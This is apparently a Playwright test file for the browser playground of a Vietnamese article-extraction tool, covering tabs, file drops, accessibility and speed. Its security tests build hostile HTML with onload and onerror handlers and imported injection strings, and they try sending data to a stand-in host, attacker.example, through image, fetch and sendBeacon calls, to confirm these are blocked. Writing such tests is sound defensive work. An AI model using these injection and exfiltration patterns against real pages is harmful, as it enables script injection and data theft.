import { readFileSync } from 'node:fs'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { INJECTIONS } from '../../tests/hostile/injections'
import { Bench, missing, overflows, pwned, ROOT, seriousFaults } from './browser'

const PAGE = readFileSync(`${ROOT}fixtures/sharepoint-2010/lacviet-classes/page.html`, 'utf8')
const TITLE = 'Tổng kết mô hình trồng dưa lưới trong nhà màng tại xã Tân Hợp'
const SENTENCE = 'Đoàn công tác của huyện đã kiểm tra tuyến kênh chạy qua hai thôn và làm việc với xã. '
const TABS = ['Article', 'On the page', 'Explanation', 'Markdown', 'JSON', 'Normalised text']

/** But for what the browser refused a page that was shown. */
const others = (complaints: readonly string[]) => complaints.filter(line => !/frame is sandboxed|Content Security Policy/u.test(line))

describe.skipIf(missing !== undefined)('the playground', () => {
  let bench: Bench
  beforeAll(async () => {
    bench = await Bench.start()
  })
  afterAll(() => bench?.stop())

  const paste = async (page: Page, text: string) => {
    await page.locator('#pasted').fill(text)
    await page.locator('[role=tab]').first().waitFor()
  }
  const frame = (page: Page) => page.frameLocator('#shown iframe')
  const tab = (page: Page, name: string) => page.getByRole('tab', { name, exact: true }).click()

  const drop = async (page: Page, name: string, bytes: Uint8Array) => {
    const data = await page.evaluateHandle(
      ({ name, base64 }) => {
        const transfer = new DataTransfer()
        transfer.items.add(new File([Uint8Array.from(atob(base64), letter => letter.charCodeAt(0))], name))
        return transfer
      },
      { name, base64: Buffer.from(bytes).toString('base64') },
    )
    await page.dispatchEvent('.drop', 'drop', { dataTransfer: data })
    await page.locator('[role=tab]').first().waitFor()
  }

  it('reads a pasted page and shows it in every tab', async () => {
    const { page, context, foreign, complaints } = await bench.open('/playground.html')
    await paste(page, PAGE)
    expect(await frame(page).locator('h1').textContent()).toBe(TITLE)
    await tab(page, 'On the page')
    expect(await frame(page).locator('.title').first().textContent()).toBe(TITLE)
    expect(await frame(page).locator('.k').count()).toBeGreaterThan(10)
    expect(await frame(page).locator('.d').count()).toBeGreaterThan(20)
    await tab(page, 'Explanation')
    expect(await frame(page).locator('.fields .Title').textContent()).toContain(TITLE)
    await tab(page, 'Markdown')
    expect(await page.locator('#shown pre').textContent()).toMatch(new RegExp(`^# ${TITLE}\n`, 'mu'))
    await tab(page, 'JSON')
    expect(JSON.parse((await page.locator('#shown pre').textContent())!).article.title).toBe(TITLE)
    await tab(page, 'Normalised text')
    expect(await page.locator('#shown pre').textContent()).toContain(TITLE)
    expect([foreign, others(complaints)]).toEqual([[], []])
    await context.close()
  })

  it('shows every word of the page under the decision it fell to', async () => {
    const { page, context } = await bench.open('/playground.html')
    await paste(page, PAGE)
    await tab(page, 'On the page')
    const shown = await frame(page)
      .locator('body')
      .evaluate(body => {
        const letters = (text: string) => text.replace(/[^\p{L}\p{N}]/gu, '').length
        const of = (selector: string) =>
          [...body.querySelectorAll(selector)].reduce((sum, { textContent }) => sum + letters(textContent!), 0)
        return { all: letters(body.textContent!) - of('.image'), under: of('.k') + of('.d') }
      })
    expect(shown.under).toBeGreaterThan(shown.all * 0.98)
    await context.close()
  })

  it('reads a dropped file by its bytes', async () => {
    const { page, context } = await bench.open('/playground.html')
    await drop(page, 'cu.html', readFileSync(`${ROOT}fixtures/legacy/tcvn3/page.html`))
    const { expected } = JSON.parse(readFileSync(`${ROOT}fixtures/legacy/tcvn3/source.json`, 'utf8'))
    expect(await frame(page).locator('h1').textContent()).toBe(expected.title)
    expect(await page.locator('.outcome').textContent()).toContain('legacy-charset')
    expect(await page.locator('.file strong').textContent()).toBe('cu.html')
    await page.getByRole('button', { name: 'edit it here' }).click()
    expect(await page.locator('#pasted').inputValue()).toContain('<title>Trang tin dien tu huyen Binh Luong</title>')
    await context.close()
  })

  it('reads its samples, each to an article', async () => {
    const { page, context } = await bench.open('/playground.html')
    const samples = page.locator('.drop .row').first().locator('button')
    const count = await samples.count()
    expect(count).toBe(4)
    for (let i = 0; i < count; i++) {
      await samples.nth(i).click()
      await page.locator('.file strong', { hasText: (await samples.nth(i).textContent())! }).waitFor()
      await page.locator('.outcome[aria-busy=false] strong', { hasText: 'Article:' }).waitFor()
    }
    await context.close()
  })

  it('says what is no article, what is no page, and nothing of nothing', async () => {
    const { page, context } = await bench.open('/playground.html')
    await drop(page, 'a.pdf', Buffer.from('%PDF-1.4 \n1 0 obj\n<</Type/Catalog>>\nendobj'))
    expect(await page.locator('.outcome strong').textContent()).toBe('No article: not-html')
    for (const name of TABS) await tab(page, name)
    await page.locator('#pasted').fill('xin chào')
    await page.locator('.outcome strong', { hasText: /No article: (?:empty|too-little-text)/u }).waitFor()
    await page.locator('#pasted').fill('')
    await page.locator('.outcome', { hasText: 'Nothing to read yet.' }).waitFor()
    expect(await page.locator('[role=tab]').count()).toBe(0)
    await context.close()
  })

  it('turns its tabs by arrow keys', async () => {
    const { page, context } = await bench.open('/playground.html')
    await paste(page, PAGE)
    await page.getByRole('tab', { name: 'Article' }).focus()
    await page.keyboard.press('ArrowRight')
    expect(await page.locator('[role=tab][aria-selected=true]').textContent()).toBe('On the page')
    await page.keyboard.press('ArrowLeft')
    await page.keyboard.press('ArrowLeft')
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Normalised text')
    await context.close()
  })

  it('follows a field to its place, filters, and opens what was left out', async () => {
    const { page, context } = await bench.open('/playground.html')
    await paste(page, PAGE)
    await tab(page, 'Explanation')
    const shown = frame(page)
    await shown.locator('.fields .By a').click()
    const target = shown.locator('.piece.k-byline')
    await expect
      .poll(() => target.evaluate(piece => piece.matches(':target') && piece.getBoundingClientRect().top < innerHeight))
      .toBe(true)
    expect(page.url()).toBe(`${bench.site}/playground.html`)
    await shown.getByLabel(/^\s*caption/u).check()
    await expect.poll(() => shown.locator('.pieces > li:visible').count()).toBe(2)
    await shown.getByLabel(/^\s*everything/u).check()
    await shown.locator('.run summary').first().click()
    expect(await shown.locator('.run ol > li').first().isVisible()).toBe(true)
    await context.close()
  })

  it('shows its first answer to a page of 500 kB within a second', async () => {
    const { page, context } = await bench.open('/playground.html')
    const filler = `<p>${SENTENCE.repeat(4)}</p>`
    const large = PAGE.replace(
      '</body>',
      `<div id="more">${filler.repeat(Math.ceil((500_000 - Buffer.byteLength(PAGE)) / Buffer.byteLength(filler)))}</div></body>`,
    )
    expect(Buffer.byteLength(large)).toBeGreaterThan(500_000)
    const times: number[] = []
    for (let i = 0; i < 3; i++) {
      await page.reload()
      await page.waitForLoadState('networkidle')
      await drop(page, 'large.html', Buffer.from(large))
      times.push(Number(/shown after (\d+) ms/u.exec((await page.locator('.outcome').textContent())!)![1]))
    }
    console.log(`first answer to 500 kB after ${times.join(', ')} ms`)
    // The middle one: other processes may hold up any single one.
    expect(times.sort((a, b) => a - b)[1]).toBeLessThan(1000)
    await context.close()
  })

  it('runs, loads and sends nothing of the pages it shows', { timeout: 180_000 }, async () => {
    const { page, context, foreign, complaints } = await bench.open('/playground.html')
    const hostile = (words: string) =>
      `<html><head><title>${words}</title></head><body onload="window.PWNED=1"><div class="content"><h1>Bài ${words}</h1>${`<p>${words} ${SENTENCE.repeat(3)}</p><p>${words.replaceAll('<', '&lt;')} ${SENTENCE.repeat(3)}</p>`.repeat(3)}<figure><img src="http://attacker.example/x.png" onerror="window.PWNED=1" alt="${words.replaceAll('"', '&quot;')}"><figcaption>${words}</figcaption></figure></div></body></html>`
    for (const words of [...INJECTIONS, INJECTIONS.join(' ')]) {
      await paste(page, hostile(words))
      await page.locator('.outcome[aria-busy=false]').waitFor()
      for (const name of TABS) {
        await tab(page, name)
        if (await pwned(page)) throw new Error(`${words} ran in ${name}`)
      }
    }
    await page.waitForTimeout(500)
    expect([foreign, others(complaints)]).toEqual([[], []])
    await context.close()
  })

  it('forbids itself what it promises not to do', async () => {
    const { page, context, foreign, complaints } = await bench.open('/playground.html')
    const sent = await page.evaluate(async () => {
      const image = new Image()
      image.src = 'http://attacker.example/?stolen'
      const fetched = await fetch('http://attacker.example/').then(
        () => 'sent',
        () => 'refused',
      )
      const beacon = navigator.sendBeacon('http://attacker.example/', 'stolen')
      const script = document.createElement('script')
      script.textContent = 'window.PWNED = 1'
      document.head.append(script)
      return { fetched, beacon }
    })
    expect(sent.fetched).toBe('refused')
    expect(foreign).toEqual([])
    expect(await pwned(page)).toBe(false)
    expect(complaints.join('\n')).toMatch(/Content Security Policy/u)
    await context.close()
  })

  it.each([
    ['in the light', {}],
    ['in the dark', { dark: true }],
    ['on a telephone', { phone: true }],
  ])('has no serious fault for axe, and no overflow, %s', async (_, view) => {
    const { page, context } = await bench.open('/playground.html', view)
    expect(await seriousFaults(page)).toEqual([])
    await paste(page, PAGE)
    for (const name of ['Article', 'JSON']) {
      await tab(page, name)
      expect(await seriousFaults(page)).toEqual([])
    }
    expect(await overflows(page)).toBe(false)
    await context.close()
  })
})
